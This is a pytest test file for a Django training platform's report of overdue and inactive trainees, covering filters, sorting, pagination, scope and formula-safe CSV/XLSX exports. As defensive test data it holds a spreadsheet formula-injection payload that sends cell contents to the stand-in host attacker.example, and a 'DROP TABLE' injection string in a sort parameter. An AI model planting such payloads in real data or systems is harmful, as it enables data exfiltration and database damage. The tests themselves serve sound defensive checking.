"""The at-risk list (issue 15, point 8): who is on it and why, its columns, filters, order,
pages, exports (formula-safe), scope, query count and languages."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from courses.models import Enrolment, LessonCompletion
from programme.models import ProgrammeSettings
from reports.at_risk import SORT_CHOICES, SORTS
from tests.factories import UserFactory, build_course, lessons_of, make_coordinator, sign_in_with_second_factor
from tests.reports.builders import assign

User = get_user_model()
FORMULA_NAME = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'


def _ago(days: int):
    return timezone.now() - timedelta(days=days)


@pytest.fixture
def people(db, catalogue, frontier, harbour, east, west):
    """In the coordinator's scope (Frontier Service, Eastern Province):
    olga overdue 10 days but active; ivan inactive 60 days with a course due in 30; bob overdue
    3 days and never signed in since joining 200 days ago; fatima active and on time; dilshod
    inactive but done. Outside it: farid (Harbour Police) and wali (Western Province), overdue."""
    course = build_course(title="Identifying victims", lessons=2, catalogue=catalogue)
    other = build_course(title="Interviewing with care", lessons=1, catalogue=catalogue)
    recent = _ago(1)

    def trainee(key, full_name, *, agency=frontier, region=east, joined=300, login=None):
        return UserFactory(
            email=f"{key}@example.org",
            full_name=full_name,
            agency=agency,
            region=region,
            date_joined=_ago(joined),
            last_login=login,
        )

    p = {
        "olga": trainee("olga", "Olga Overdue", login=recent),
        "ivan": trainee("ivan", "Ivan Inactive", login=_ago(60), joined=100),
        "bob": trainee("bob", "Bobur Both", joined=200),
        "fatima": trainee("fatima", "Fatima Fine", login=recent),
        "dilshod": trainee("dilshod", "Dilshod Done", login=_ago(90)),
        "farid": trainee("farid", "Farid Foreign", agency=harbour, login=recent),
        "wali": trainee("wali", "Wali Westerner", region=west, login=recent),
    }
    assign(p["olga"], course, due_in=-10)
    assign(p["olga"], other, due_in=5)
    assign(p["ivan"], course, due_in=30)
    assign(p["bob"], course, due_in=-3)
    assign(p["fatima"], course, due_in=30)
    from tests.reports.test_coverage import _certify

    assign(p["dilshod"], course, certificate=_certify(p["dilshod"], course), completed_days_ago=90)
    assign(p["farid"], course, due_in=-10)
    assign(p["wali"], course, due_in=-10)
    return {"course": course, "other": other, **p}


@pytest.fixture
def page(client_coordinator, settings):
    settings.REPORTS_CACHE_SECONDS = 0

    def get(query: str = "", language: str | None = None) -> str:
        url = reverse("reports_at_risk") + query
        if language:
            with translation.override(language):
                url = reverse("reports_at_risk") + query
        response = client_coordinator.get(url)
        assert response.status_code == 200
        return response.content.decode()

    return get


def _names(html: str) -> list[str]:
    return re.findall(r'<th scope="row"><a href="[^"]*">([^<]*)</a></th>', html)


def test_lists_the_overdue_and_the_inactive_with_unfinished_work(page, people):
    assert sorted(_names(page())) == ["Bobur Both", "Ivan Inactive", "Olga Overdue"]


def test_another_coordinators_trainees_never_appear(page, people, harbour):
    html = page(f"?agency={harbour.pk}")  # a filter outside the scope is refused, not obeyed
    for name in ("Farid Foreign", "Wali Westerner", "Harbour Police", "Western Province"):
        assert name not in html
    assert sorted(_names(html)) == ["Bobur Both", "Ivan Inactive", "Olga Overdue"]


@pytest.mark.parametrize(
    ("reason", "names"),
    [
        ("overdue", ["Bobur Both", "Olga Overdue"]),
        ("inactive", ["Bobur Both", "Ivan Inactive"]),
        ("both", ["Bobur Both"]),
    ],
)
def test_filter_by_reason(page, people, reason, names):
    html = page(f"?reason={reason}")
    assert sorted(_names(html)) == names
    assert f'<option value="{reason}" selected>' in html  # the form keeps its values


def test_filter_by_course(page, people):
    # Olga's other course is due in 5 days and she is active: not at risk for it.
    html = page(f"?course={people['other'].pk}")
    assert _names(html) == [] and "Nobody matches these filters." in html
    assert f'<option value="{people["other"].pk}" selected>' in html
    html = page(f"?course={people['course'].pk}")
    assert sorted(_names(html)) == ["Bobur Both", "Ivan Inactive", "Olga Overdue"]
    olga = re.search(r"Olga Overdue</a></th>(.*?)</tr>", html, re.S).group(1)
    assert "Identifying victims" in olga and "Interviewing with care" not in olga


def test_columns_due_date_status_days_overdue_and_last_activity(page, people):
    olga = people["olga"]
    row = re.search(r"Olga Overdue</a></th>(.*?)</tr>", page(), re.S).group(1)
    due = timezone.localdate() - timedelta(days=10)
    assert "Frontier Service" in row and "Eastern Province" in row
    assert "Identifying victims" in row and "Interviewing with care" in row
    assert f'data-label="Due">{due:%m/%d/%Y}</td>' in row
    assert '<span class="badge badge-revoked">Overdue</span>' in row
    assert 'data-label="Days overdue">10</td>' in row
    assert f'data-label="Last activity">{timezone.localtime(olga.last_login):%m/%d/%Y}</td>' in row
    # The drill-down link names the trainee by id, not by name or e-mail.
    link = re.search(r'<a href="([^"]*)">Olga Overdue</a>', page()).group(1)
    assert f"trainee={olga.pk}" in link and "olga" not in link.lower()


def test_the_drill_down_link_opens_that_trainee(client_coordinator, page, people):
    link = re.search(r'<a href="([^"]*)">Bobur Both</a>', page()).group(1).replace("&amp;", "&")
    html = client_coordinator.get(link).content.decode()
    assert "Bobur Both" in html and "Olga Overdue" not in html and "1 trainee" in html


def test_last_activity_is_the_latest_of_sign_in_course_activity_and_lessons(page, people):
    ivan = people["ivan"]
    enrolment = Enrolment.objects.create(user=ivan, course=people["course"])
    Enrolment.objects.filter(pk=enrolment.pk).update(last_activity_at=_ago(45))
    completion = LessonCompletion.objects.create(
        user=ivan, course=people["course"], lesson=lessons_of(people["course"])[0]
    )
    LessonCompletion.objects.filter(pk=completion.pk).update(completed_at=_ago(40))
    row = re.search(r"Ivan Inactive</a></th>(.*?)</tr>", page(), re.S).group(1)
    assert f'data-label="Last activity">{timezone.localtime(_ago(40)):%m/%d/%Y}</td>' in row
    # Bob never signed in and did nothing: "Never".
    assert 'data-label="Last activity">Never</td>' in re.search(r"Bobur Both</a></th>(.*?)</tr>", page(), re.S)[1]


def test_recent_course_activity_means_not_inactive(page, people):
    Enrolment.objects.create(user=people["ivan"], course=people["course"])  # last activity: now
    assert "Ivan Inactive" not in page()


def test_the_inactivity_threshold_is_the_administrators(page, people):
    settings = ProgrammeSettings.load()
    settings.inactive_after_days = 90
    settings.save()
    assert "Ivan Inactive" not in page("?reason=inactive")  # inactive 60 days: under 90
    assert "not been active for 90 days" in page()


@pytest.mark.parametrize(
    ("sort", "order"),
    [
        ("-days", ["Olga Overdue", "Bobur Both", "Ivan Inactive"]),
        ("days", ["Bobur Both", "Olga Overdue", "Ivan Inactive"]),
        ("name", ["Bobur Both", "Ivan Inactive", "Olga Overdue"]),
        ("-name", ["Olga Overdue", "Ivan Inactive", "Bobur Both"]),
        ("due", ["Olga Overdue", "Bobur Both", "Ivan Inactive"]),
        ("activity", ["Bobur Both", "Ivan Inactive", "Olga Overdue"]),
        ("-activity", ["Olga Overdue", "Ivan Inactive", "Bobur Both"]),
    ],
)
def test_sortable_columns(page, people, sort, order):
    html = page(f"?sort={sort}")
    assert _names(html) == order
    assert f'<option value="{sort}" selected>' in html


def test_every_sort_offered_is_whitelisted():
    assert {value for value, _label in SORT_CHOICES} == set(SORTS)


@pytest.mark.parametrize(
    "query",
    [
        "?sort=password",
        "?sort=full_name;DROP TABLE",
        "?course=abc",
        "?course=99999999999999999999",
        "?agency=-1",
        "?region=0",
        "?reason=everyone",
        "?page=x",
        "?page=99999",
    ],
)
def test_bad_input_gives_a_message_not_an_error(page, people, query):
    html = page(query)
    if "page=" not in query:
        assert "Some filters were not valid and were left out" in html
        assert 'class="error-text"' in html
    assert sorted(_names(html)) == ["Bobur Both", "Ivan Inactive", "Olga Overdue"]


def test_invalid_values_keep_the_valid_ones(page, people, east):
    html = page(f"?region={east.pk}&reason=nonsense&sort=name")
    assert f'<option value="{east.pk}" selected>' in html
    assert '<option value="name" selected>' in html


def test_empty_state(page, db, frontier, east):
    assert "Nobody in your scope is overdue or inactive" in page()
    assert "Nobody matches these filters." in page("?reason=overdue")


def _bulk_overdue(count, course, agency, region, prefix="Bulk"):
    users = User.objects.bulk_create(
        User(
            email=f"{prefix.lower()}{n}@example.org",
            full_name=f"{prefix} Trainee {n:03}",
            agency=agency,
            region=region,
            password="!",
        )
        for n in range(count)
    )
    from programme.models import Assignment

    Assignment.objects.bulk_create(
        Assignment(user=user, course=course, due_on=timezone.localdate() - timedelta(days=2)) for user in users
    )


def test_paginated_by_fifty(page, people, frontier, east):
    _bulk_overdue(50, people["course"], frontier, east)
    first = page("?sort=name")
    assert "53 trainees at risk" in first and "Page 1 of 2" in first
    assert len(_names(first)) == 50
    second = page("?sort=name&page=2")
    assert len(_names(second)) == 3 and 'rel="prev"' in second
    assert "sort=name&amp;page=2" in first  # the next page keeps the order


def _queries(client, query=""):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(reverse("reports_at_risk") + query).status_code == 200
    return len(queries)


def test_query_count_is_fixed_whatever_the_number_of_trainees(
    client_coordinator, people, frontier, east, django_assert_max_num_queries
):
    _queries(client_coordinator)  # warm per-process caches
    few = _queries(client_coordinator)
    _bulk_overdue(120, people["course"], frontier, east)
    _bulk_overdue(30, people["other"], frontier, east, prefix="Other")
    assert _queries(client_coordinator) == few
    with django_assert_max_num_queries(few):
        client_coordinator.get(reverse("reports_at_risk") + "?page=2&sort=-name")


def _export(client, file_format, query=""):
    response = client.get(reverse("reports_export_at_risk", args=[file_format]) + query)
    assert response.status_code == 200
    return response


def test_csv_export_lists_the_same_trainees_and_is_formula_safe(client_coordinator, people, frontier, east):
    evil = UserFactory(email="evil@example.org", full_name=FORMULA_NAME, agency=frontier, region=east)
    assign(evil, people["course"], due_in=-1)
    body = b"".join(_export(client_coordinator, "csv").streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == [
        "Full name",
        "E-mail",
        "Agency",
        "Region",
        "Courses",
        "Due",
        "Status",
        "Days overdue",
        "Last activity",
    ]
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Olga Overdue", "Ivan Inactive", "Bobur Both", "'" + FORMULA_NAME}
    olga = by_name["Olga Overdue"]
    due = (timezone.localdate() - timedelta(days=10)).isoformat()
    assert olga[4].startswith(f"Identifying victims ({due}); Interviewing with care (")
    assert olga[5:8] == [due, "Overdue", "10"]
    assert "Farid Foreign" not in body and "Wali Westerner" not in body
    entry = ModelLogEntry.objects.get(action="frontline.report.export")
    assert entry.data["kind"] == "at_risk" and entry.data["rows"] == 4


def test_xlsx_export_keeps_a_formula_as_text(client_coordinator, people, frontier, east):
    evil = UserFactory(email="evil@example.org", full_name=FORMULA_NAME, agency=frontier, region=east)
    assign(evil, people["course"], due_in=-1)
    sheet = load_workbook(io.BytesIO(_export(client_coordinator, "xlsx", "?reason=overdue").content)).active
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == {"Olga Overdue", "Bobur Both", FORMULA_NAME}
    name = cells[FORMULA_NAME][0]
    assert name.data_type == "s" and name.quotePrefix  # text, never run as a formula


def test_export_follows_the_filters_and_the_scope(client, people, harbour):
    outsider = make_coordinator(email="harbour@example.org", full_name="Harbour Coordinator", scopes=[(harbour, None)])
    sign_in_with_second_factor(client, outsider)
    body = b"".join(_export(client, "csv").streaming_content).decode("utf-8-sig")
    assert "Farid Foreign" in body
    assert "Olga Overdue" not in body and "Wali Westerner" not in body


@pytest.mark.parametrize("language", ["ru", "tg"])
def test_the_page_speaks_russian_and_tajik(client_coordinator, people, language):
    with translation.override(language):
        url = reverse("reports_at_risk")
        expected = [gettext("Trainees at risk"), gettext("Days overdue"), gettext("Overdue")]
    response = client_coordinator.get(url)
    assert response.status_code == 200
    html = response.content.decode()
    assert f'lang="{language}"' in html
    for text in expected:
        assert text in html
    agency = {"ru": "Пограничная служба", "tg": "Хадамоти марзбонӣ"}[language]
    assert agency in html and "Olga Overdue" in html


def test_the_dashboard_links_to_the_list(client_coordinator, people, settings):
    settings.REPORTS_CACHE_SECONDS = 0
    html = client_coordinator.get(reverse("reports_dashboard")).content.decode()
    assert reverse("reports_at_risk") in html


def test_the_lists_conditions_agree_with_the_shared_statuses(people):
    """The list filters by "not completed" and "due before today" written out; they must pick
    exactly the assignments ``programme.status`` calls open and overdue."""
    from programme.models import Assignment
    from programme.status import OPEN, Status, with_status
    from reports.at_risk import AtRiskFilters, _overdue, _unfinished

    today = timezone.localdate()
    statuses = with_status(Assignment.objects.all(), today=today)
    open_ids = set(statuses.filter(status__in=[s.value for s in OPEN]).values_list("pk", flat=True))
    overdue_ids = set(statuses.filter(status=Status.OVERDUE.value).values_list("pk", flat=True))
    unfinished = _unfinished(filters=AtRiskFilters())
    assert set(unfinished.values_list("pk", flat=True)) == open_ids and open_ids
    assert set(_overdue(unfinished, today=today).values_list("pk", flat=True)) == overdue_ids and overdue_ids
